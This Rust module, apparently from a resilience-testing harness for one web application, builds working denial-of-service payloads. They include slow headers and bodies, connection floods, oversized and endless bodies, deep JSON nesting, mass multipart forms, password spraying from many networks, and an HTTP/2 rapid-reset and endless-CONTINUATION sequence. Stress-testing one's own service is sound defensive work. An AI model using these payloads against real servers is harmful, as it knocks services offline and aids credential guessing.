//! The attacks: what each sends, on how many connections, and how it goes on.

use std::time::Duration;

use clap::ValueEnum;
use serde_json::json;

/// One way to wear a server out.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Kind {
    /// Heads that arrive drop by drop.
    SlowHeads,
    /// Bodies that arrive drop by drop.
    SlowBodies,
    /// Readers who ask for much and take nothing.
    SlowReaders,
    /// Ten thousand connections that say nothing.
    Idle,
    /// Connections that ask once and fall silent, never reading.
    HalfOpen,
    /// Thousands of headers.
    ManyHeaders,
    /// A header without end.
    HugeLine,
    /// A body of a gigabyte with its length.
    HugeBody,
    /// A body without length and without end.
    EndlessBody,
    /// Chunks of one byte, each with kilobytes of extension.
    ChunkExtensions,
    /// A zipped body that would unfold to gigabytes.
    GzipBodies,
    /// A form of a hundred thousand parts.
    Multipart,
    /// JSON nested thirty thousand deep.
    NestedJson,
    /// Wrong passwords from hundreds of networks.
    SignIns,
    /// One token that asks without end.
    OverRate,
    /// A page for anybody, asked for without end.
    Pages,
    /// Connections that are opened and closed again.
    Connects,
    /// What wears out HTTP/2: settings, streams begun and taken back, a head that never ends.
    Http2,
}

/// How an attack goes on.
pub enum Course {
    /// Sends `first` on each connection, then `piece` again and again after a wait.
    Drip { first: Vec<u8>, piece: Vec<u8>, wait: Duration },
    /// Sends `first`, then `piece` as fast as it is taken, until cut off; then again from the start.
    Pour { first: Vec<u8>, piece: Vec<u8> },
    /// Asks and reads the answer, again and again.
    Ask { requests: Vec<Vec<u8>> },
    /// Connects and closes.
    Knock,
}

/// An attack ready to be carried out.
pub struct Attack {
    /// Connections at once.
    pub connections: usize,
    /// Networks they come from.
    pub networks: u8,
    /// What they do.
    pub course: Course,
}

impl Kind {
    /// Answers all of them in their order.
    pub fn all() -> &'static [Kind] {
        Kind::value_variants()
    }

    /// Answers the name on the command line and in the table.
    pub fn name(self) -> String {
        self.to_possible_value().map_or_else(String::new, |value| value.get_name().to_owned())
    }

    /// Makes the attack ready; `token` is that of an officer who is in it.
    pub fn attack(self, token: &str) -> Attack {
        let second = Duration::from_secs(1);
        let drip = |first: &str, piece: &str| Course::Drip { first: first.into(), piece: piece.into(), wait: second };
        let pour = |first: &str, piece: Vec<u8>| Course::Pour { first: first.into(), piece };
        let of = |connections, course| Attack { connections, networks: 4, course };
        match self {
            Kind::SlowHeads => of(2_000, drip("GET /sign-in HTTP/1.1\r\nhost: a\r\nx-", "y")),
            Kind::SlowBodies => of(1_000, drip(&posted("content-length: 100000"), "a")),
            Kind::SlowReaders => of(500, drip(&"GET /api/v1/openapi.json HTTP/1.1\r\nhost: a\r\n\r\n".repeat(50), "")),
            Kind::Idle => of(10_000, drip("", "")),
            Kind::HalfOpen => of(2_000, drip("GET /sign-in HTTP/1.1\r\nhost: a\r\n\r\n", "")),
            Kind::ManyHeaders => of(50, pour("GET /sign-in HTTP/1.1\r\nhost: a\r\n", b"a: b\r\n".repeat(5_000))),
            Kind::HugeLine => of(50, pour("GET /sign-in HTTP/1.1\r\nhost: a\r\nx: ", vec![b'a'; 1 << 16])),
            Kind::HugeBody => of(50, pour(&posted("content-length: 1000000000"), vec![b'a'; 1 << 16])),
            Kind::EndlessBody => of(50, pour(&posted("transfer-encoding: chunked"), chunk(1 << 15, 0))),
            Kind::ChunkExtensions => of(50, pour(&posted("transfer-encoding: chunked"), chunk(1, 8_000))),
            Kind::GzipBodies => of(50, Course::Ask { requests: vec![gzip(token)] }),
            Kind::Multipart => of(50, Course::Ask { requests: vec![multipart()] }),
            Kind::NestedJson => of(20, Course::Ask { requests: vec![check(token, "", &"[".repeat(30_000))] }),
            Kind::SignIns => {
                let requests = (0..5_000).map(sign_in).collect();
                Attack { connections: 200, networks: 200, course: Course::Ask { requests } }
            }
            Kind::OverRate => {
                let body = json!({ "number": "K12345678", "issuing_state": "GTM" }).to_string();
                of(50, Course::Ask { requests: vec![check(token, "", &body)] })
            }
            Kind::Pages => of(50, Course::Ask { requests: vec![b"GET /sign-in HTTP/1.1\r\nhost: a\r\n\r\n".to_vec()] }),
            Kind::Connects => of(50, Course::Knock),
            Kind::Http2 => of(50, pour("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frames())),
        }
    }
}

fn posted(header: &str) -> String {
    format!("POST /sign-in HTTP/1.1\r\nhost: a\r\ncontent-type: application/x-www-form-urlencoded\r\n{header}\r\n\r\n")
}

fn sign_in(turn: usize) -> Vec<u8> {
    let body = format!("user_name=nobody.{turn}&password=seven+herons+at+dawn");
    format!("{}{body}", posted(&format!("content-length: {}", body.len()))).into_bytes()
}

fn check(token: &str, header: &str, body: &str) -> Vec<u8> {
    format!(
        "POST /api/v1/checks HTTP/1.1\r\nhost: a\r\nauthorization: Bearer {token}\r\npuebla-purpose: border_control\r\n\
         content-type: application/json\r\n{header}content-length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

/// A body that says it is zipped; where it is not unzipped, what it would unfold to does not matter.
fn gzip(token: &str) -> Vec<u8> {
    check(token, "content-encoding: gzip\r\n", &"\u{1f}\u{8}".repeat(10_000))
}

fn chunk(bytes: usize, extension: usize) -> Vec<u8> {
    let (name, data) = ("x".repeat(extension), "a".repeat(bytes));
    let extension = if extension > 0 { format!(";{name}=1") } else { String::new() };
    format!("{bytes:x}{extension}\r\n{data}\r\n").into_bytes()
}

fn multipart() -> Vec<u8> {
    let part = "--b\r\ncontent-disposition: form-data; name=\"a\"\r\n\r\nb\r\n";
    let body = format!("{}--b--\r\n", part.repeat(100_000));
    let head = format!(
        "POST /imports/status HTTP/1.1\r\nhost: a\r\ncontent-type: multipart/form-data; boundary=b\r\n\
         content-length: {}\r\n\r\n",
        body.len()
    );
    format!("{head}{body}").into_bytes()
}

/// HTTP/2 frames: empty settings, then heads of streams without end and their cancelling, then heads that go on.
fn frames() -> Vec<u8> {
    let frame = |length: u8, kind: u8, flags: u8, stream: u32, payload: &[u8]| {
        let mut frame = vec![0, 0, length, kind, flags];
        frame.extend(stream.to_be_bytes());
        frame.extend(payload);
        frame
    };
    let mut all = frame(0, 4, 0, 0, &[]);
    for stream in (1..2_000).step_by(2) {
        all.extend(frame(1, 1, 4, stream, &[0x82]));
        all.extend(frame(4, 3, 0, stream, &[0, 0, 0, 8]));
        all.extend(frame(0, 4, 0, 0, &[]));
    }
    all.extend(frame(1, 1, 0, 2_001, &[0x82]));
    for _ in 0..1_000 {
        all.extend(frame(1, 9, 0, 2_001, &[0x82]));
    }
    all
}
